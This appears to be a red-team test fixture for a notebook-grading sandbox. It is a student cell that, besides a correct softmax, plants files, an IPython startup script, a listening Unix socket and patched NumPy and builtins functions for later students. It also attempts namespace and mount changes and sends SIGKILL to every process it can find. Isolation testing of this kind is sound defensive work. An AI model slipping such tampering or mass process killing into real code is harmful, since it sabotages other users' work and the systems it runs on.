# based on: aoki
# threat: a kernel leaves something for the next student's kernel forked by the same warm sandbox
# Graded first, in the same worker (one worker) as the students after it.
# Its softmax cell plants everything it can where a later kernel might find
# it (files in /tmp, the home, the kernels folder; an abstract Unix socket
# with a thread serving it; a patched NumPy, builtins and environment;
# signals to every pid; a new namespace and mount) and prints what each
# attempt did.  Its answers are the book's: full marks.

# %% softmax
import builtins
import ctypes
import os
import signal
import socket
import threading

PLANTED = {}


def _try(label, action):
    try:
        action()
        PLANTED[label] = "done"
    except Exception as exc:  # noqa: BLE001
        PLANTED[label] = type(exc).__name__


def _write(path):
    with open(path, "w") as f:
        f.write("left by a_leave_behind")


_try("/tmp file", lambda: _write("/tmp/bpkit-planted"))
_try("home file", lambda: _write(os.path.expanduser("~/bpkit-planted")))
_try("beside the notebook", lambda: _write("../bpkit-planted"))
_try("kernels folder", lambda: _write("/run/kernels/bpkit-planted"))
_try("kernels folder parent", lambda: _write("/run/bpkit-planted"))
_try("ipython profile", lambda: _write(os.path.expanduser("~/.ipython/profile_default/startup/00-planted.py")))


def _serve():
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0bpkit-planted")
    server.listen(8)
    threading.Thread(target=lambda: [c.sendall(b"planted") for c, _ in iter(server.accept, None)],
                     daemon=True).start()


_try("abstract socket", _serve)
_try("environment", lambda: os.environ.__setitem__("BPKIT_PLANTED", "1"))
_exp = np.exp  # kept for this student's own softmax
_try("numpy patched", lambda: setattr(np, "exp", lambda x: 0 * x))
_sum = builtins.sum
_try("builtins patched", lambda: setattr(builtins, "sum", lambda *a, **k: 0))
_libc = ctypes.CDLL(None, use_errno=True)


def _c(function, *args):
    if function(*args) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


_try("unshare", lambda: _c(_libc.unshare, 0x10000000 | 0x20000))  # a user and a mount namespace
_try("mount", lambda: _c(_libc.mount, b"tmpfs", b"/tmp", b"tmpfs", 0, None))
_try("proc", lambda: os.listdir("/proc/1"))
_KILLED, _PROCESSES = [], []
for _pid in range(1, 4096):
    try:
        os.close(os.pidfd_open(_pid))  # a process (a thread of this one is not a process)
    except OSError:
        continue
    _PROCESSES.append(_pid)
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
            _KILLED.append(_pid)
        except OSError:
            pass
PLANTED["processes"] = _PROCESSES
try:
    os.close(os.pidfd_open(1))
    PLANTED["init survived"] = True
except OSError:
    PLANTED["init survived"] = False
PLANTED["killed"] = _KILLED
builtins.sum = _sum  # (this kernel's own later cells use it; a later kernel could only see it through shared memory)
print("PLANTED:", PLANTED)


def softmax(x):
    x = x - np.max(x, axis=-1, keepdims=True)
    return _exp(x) / np.sum(_exp(x), axis=-1, keepdims=True)
